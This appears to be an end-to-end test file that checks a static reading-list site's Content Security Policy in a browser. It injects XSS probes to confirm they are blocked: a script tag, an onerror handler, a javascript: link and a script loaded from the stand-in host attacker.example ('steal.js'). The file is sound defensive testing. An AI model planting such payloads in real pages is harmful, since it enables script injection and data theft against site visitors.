/**
 * The Content Security Policy in Chromium, on the fixture site (markup probes in titles, MDX
 * topic notes, a sub-path), built with 2 papers a list page so that list pages continue on
 * `page/2/`, and served with its `_headers` as Netlify or Cloudflare Pages would: the policy
 * arrives twice, as each page's meta element and as the header. Everything a reader does runs
 * without a single violation, in light and dark; a script smuggled into a page does not run.
 */
import { describe, expect, it, beforeAll, afterAll } from 'vitest';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { useBrowser } from '../support/e2e.ts';
import { serveStatic, type RunningServer } from '../support/static-server.ts';
import { watchCsp } from '../support/csp-watch.ts';
import { buildSite } from '../support/build-site.ts';
import { fixtureSiteBuild } from '../support/fixtures.ts';

const browser = useBrowser();
let server: RunningServer;
let outDir: string;
/** A topic whose list continues on a second page. */
let longTopic: string;
beforeAll(async () => {
  outDir = await mkdtemp(join(tmpdir(), 'reading-list-csp-'));
  const build = fixtureSiteBuild(outDir);
  await buildSite({ ...build, env: { ...build.env, LIST_PAGE_SIZE: '2' } });
  const topics = await readdir(join(outDir, 'topics'), { withFileTypes: true });
  const paged = await Promise.all(
    topics
      .filter((t) => t.isDirectory())
      .map(async (t) => ((await readdir(join(outDir, 'topics', t.name))).includes('page') ? t.name : null)),
  );
  longTopic = paged.find((name) => name !== null)!;
  server = await serveStatic(outDir, build.base, { hostHeaders: true });
});
afterAll(async () => {
  await server?.close();
  if (outDir) await rm(outDir, { recursive: true, force: true });
});

const PAPER = 'improving-the-training-of-rectified-flows';
/** The fixture paper whose title and abstract carry markup (escaped on the page). */
const PROBE = 'script-alert-title-script-img-src-x-onerror-alert-1-quoted-robots';
const PROBE_TITLE = '<script>alert("title")</script> & <img src=x onerror=alert(1)> "Quoted" Robots';

/** A browser profile whose CSP violations, console reports and script errors are recorded (service workers blocked unless asked for). */
async function watchedContext(colorScheme: 'light' | 'dark', options: { serviceWorkers?: 'allow' | 'block' } = {}) {
  const context = await browser.newContext({ colorScheme, acceptDownloads: true, serviceWorkers: options.serviceWorkers ?? 'block' });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin });
  return { context, ...(await watchCsp(context)) };
}

async function open(context: BrowserContext, path: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(server.url + path);
  await page.waitForLoadState('networkidle');
  return page;
}

/** Every kind of page the site has (pages made by integrations included: the 404 page, answering any unknown address). */
const PAGE_KINDS: (string | (() => string))[] = [
  '',
  `papers/${PAPER}/`,
  'topics/',
  'topics/rectified-flow/', // a topic with a curator's MDX note
  'topics/robot-flow-matching/', // … and one with a code block
  'search/?q=flow',
  'my-list/',
  'no-such-page/',
  'page/2/',
  () => `topics/${longTopic}/page/2/`,
];

describe('Content Security Policy', () => {
  it('is delivered twice, as a meta element and as a header, without unsafe-inline or unsafe-eval', async () => {
    const response = await fetch(server.url + `papers/${PAPER}/`);
    const header = response.headers.get('content-security-policy')!;
    const html = await response.text();
    const meta = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1];
    expect(meta).toBeDefined();
    for (const policy of [header, meta!]) {
      // The site has no inline script (JSON-LD is data, not run): nothing to hash, nothing inline allowed.
      expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
      expect(html).not.toMatch(/<script(?![^>]*\b(src=|type="application\/ld\+json"))[^>]*>/);
      expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'/);
      expect(policy).toMatch(/object-src 'none'/);
    }
    expect(header).toContain("frame-ancestors 'none'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  for (const colorScheme of ['light', 'dark'] as const) {
    it(`reports no violation on any page kind, searching, marking, copying, exporting and importing (${colorScheme})`, async () => {
      const { context, violations, consoleReports, errors, dialogs } = await watchedContext(colorScheme);
      for (const kind of PAGE_KINDS) {
        const path = typeof kind === 'function' ? kind() : kind;
        const page = await context.newPage();
        const response = await page.goto(server.url + path);
        expect(response?.status(), path).toBe(path === 'no-such-page/' ? 404 : 200);
        await page.waitForLoadState('networkidle');
        // Styles applied: a blocked stylesheet leaves the page unstyled (default white, serif).
        const background = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
        expect(background, path).toBe(colorScheme === 'light' ? 'rgb(253, 253, 252)' : 'rgb(20, 21, 24)');
        expect(await page.locator('.site-header').evaluate((el) => getComputedStyle(el).display), path).toBe('flex');
        await page.close();
      }

      // The header search box, then a result opened with the keyboard.
      const page = await open(context, '');
      await page.locator('#site-search-input').fill('rectified flow');
      await page.locator('#site-search-results [role="option"]').first().waitFor();
      await page.keyboard.press('ArrowDown');
      await page.keyboard.press('Enter');
      await page.waitForURL(/\/papers\//);
      await page.waitForLoadState('networkidle');

      // The search page: a query, a topic filter, a result opened.
      await page.goto(server.url + 'search/');
      await page.locator('#search-page-input').fill('imitation');
      await page.locator('[data-search-status]', { hasText: /results? for/ }).waitFor();
      const topic = await page.locator('input[name="topic"]').evaluateAll((boxes) =>
        boxes
          .map((b) => ({
            id: (b as HTMLInputElement).value,
            name: (b as HTMLInputElement).dataset.topicName!,
            count: b.parentElement!.textContent!,
          }))
          .find((t) => !t.count.includes('(0)')),
      );
      await page.locator(`input[name="topic"][value="${topic!.id}"]`).check();
      await page.locator('[data-search-status]', { hasText: ` in ${topic!.name}.` }).waitFor();
      await page.locator('[data-search-results] > li a').first().click();
      await page.waitForURL(/\/papers\//);

      // A paper page: marks and both copy buttons.
      await page.goto(server.url + `papers/${PAPER}/`);
      await page.getByRole('button', { name: 'Save for later' }).click();
      await page.getByRole('button', { name: 'Mark as read' }).click();
      await page.getByRole('button', { name: 'Copy BibTeX' }).click();
      await expect.poll(() => page.locator('#copy-status').textContent()).toBe('BibTeX copied to the clipboard.');
      await page.getByRole('button', { name: 'Copy link' }).click();
      await expect
        .poll(() => page.evaluate(() => navigator.clipboard.readText()))
        .toBe(`https://example.org/reading-list/papers/${PAPER}/`);

      // The markup probe's page.
      await page.goto(server.url + `papers/${PROBE}/`);
      await page.waitForLoadState('networkidle');
      expect(await page.locator('h1').textContent()).toBe(PROBE_TITLE);

      // My list: export, then import what was exported.
      await page.goto(server.url + 'my-list/');
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export as JSON' }).click()]);
      const exported = (await download.path())!;
      await page.getByRole('button', { name: 'Export as BibTeX' }).click();
      await page.getByLabel(/Import a list/).setInputFiles(exported);
      await page.getByRole('status').filter({ hasText: 'Imported' }).waitFor();
      await page.close();

      expect(violations).toEqual([]);
      expect(consoleReports).toEqual([]);
      expect(errors).toEqual([]);
      expect(dialogs).toEqual([]);
      await context.close();
    });
  }

  it('reports no violation while the service worker installs and the site is read offline', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { context, violations, consoleReports, errors } = await watchedContext(colorScheme, { serviceWorkers: 'allow' });
      const page = await open(context, '');
      await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated', undefined, { timeout: 30_000 });
      await context.setOffline(true);
      await page.goto(server.url + 'topics/');
      await page.goto(server.url + 'papers/a-bag-of-tricks-for-few-shot-class-incremental-learning/');
      await page.locator('#site-search-input').fill('slimflow');
      await page.locator('#site-search-results [role="option"]').first().waitFor();
      await page.goto(server.url + 'search/?q=imitation');
      await page.locator('[data-search-results] > li').first().waitFor();
      expect(violations, colorScheme).toEqual([]);
      expect(consoleReports, colorScheme).toEqual([]);
      expect(errors, colorScheme).toEqual([]);
      await context.close();
    }
  });
});

describe('a redirect page', () => {
  it('moves on with a meta refresh under the policy (refresh is navigation, not script)', async () => {
    const { context, violations, consoleReports } = await watchedContext('light');
    const policy = (await fetch(server.url)).headers.get('content-security-policy')!;
    // As Astro writes a redirect for a moved page: a meta refresh, a link, no script.
    const redirect = `<!doctype html><title>Redirecting to: ${server.url}papers/${PAPER}/</title><meta http-equiv="refresh" content="0;url=${server.url}papers/${PAPER}/"><a href="${server.url}papers/${PAPER}/">Redirecting</a>`;
    await context.route(server.url + 'papers/an-old-address/', (route) =>
      route.fulfill({ body: redirect, contentType: 'text/html', headers: { 'content-security-policy': policy } }),
    );
    const page = await context.newPage();
    await page.goto(server.url + 'papers/an-old-address/');
    await page.waitForURL(`${server.url}papers/${PAPER}/`);
    expect(await page.locator('h1').textContent()).toBe('Improving the Training of Rectified Flows');
    expect(violations).toEqual([]);
    expect(consoleReports).toEqual([]);
    await context.close();
  });
});

describe('a script smuggled into a page', () => {
  /**
   * What a compromised seed would put into a page if escaping ever failed: an inline script, an
   * event handler attribute, a `javascript:` link and a script from another host.
   */
  const INJECTED =
    '<script>(window.__ran ??= []).push("inline")</script>' +
    '<img src="data:," onerror="(window.__ran ??= []).push(\'attribute\')" alt="">' +
    '<a id="injected-link" href="javascript:void (window.__ran ??= []).push(\'link\')">x</a>' +
    '<script src="https://attacker.example/steal.js"></script>';
  const ran = (page: Page) => page.evaluate(() => ((window as unknown as { __ran?: string[] }).__ran ?? []).sort());

  /** Serves the paper page with `INJECTED` in its heading, keeping or dropping each copy of the policy. */
  async function injectedPage(keep: { meta: boolean; header: boolean }) {
    const watched = await watchedContext('light');
    const path = `papers/${PAPER}/`;
    await watched.context.route(server.url + path, async (route) => {
      const response = await route.fetch();
      let body = (await response.text()).replace('</h1>', `${INJECTED}</h1>`);
      if (!keep.meta) body = body.replace(/<meta http-equiv="content-security-policy"[^>]*>/, '');
      const headers = { ...response.headers() };
      if (!keep.header) delete headers['content-security-policy'];
      await route.fulfill({ response, body, headers });
    });
    await watched.context.route('https://attacker.example/**', (route) =>
      route.fulfill({ body: '(window.__ran ??= []).push("remote")', contentType: 'text/javascript' }),
    );
    const page = await open(watched.context, path);
    await page.locator('#injected-link').click();
    await page.waitForTimeout(100);
    return { page, ...watched };
  }

  for (const keep of [
    { meta: true, header: true },
    { meta: true, header: false }, // a host that cannot send headers (GitHub Pages)
    { meta: false, header: true },
  ]) {
    it(`does not run (${keep.meta ? 'meta' : 'no meta'}, ${keep.header ? 'header' : 'no header'})`, async () => {
      const { page, context, violations } = await injectedPage(keep);
      expect(await ran(page)).toEqual([]);
      // Each policy present reports each attempt: the inline script and the javascript: link
      // (script-src-elem, "inline"), the other host's script, the event handler (script-src-attr).
      const perPolicy = [
        'script-src-elem inline',
        'script-src-elem inline',
        'script-src-elem https://attacker.example/steal.js',
        'script-src-attr inline',
      ];
      const policies = Number(keep.meta) + Number(keep.header);
      expect(violations.map((v) => `${v.directive} ${v.blocked}`).sort()).toEqual(
        Array.from({ length: policies }, () => perPolicy)
          .flat()
          .sort(),
      );
      // The page itself still works: its own scripts run.
      await page.getByRole('button', { name: 'Save for later' }).click();
      expect(await page.getByRole('button', { name: 'Save for later' }).getAttribute('aria-pressed')).toBe('true');
      await context.close();
    });
  }

  it('runs without the policy: the probe is a real attack, not a broken test', async () => {
    const { page, context, violations } = await injectedPage({ meta: false, header: false });
    expect(await ran(page)).toEqual(['attribute', 'inline', 'link', 'remote']);
    expect(violations).toEqual([]);
    await context.close();
  });
});
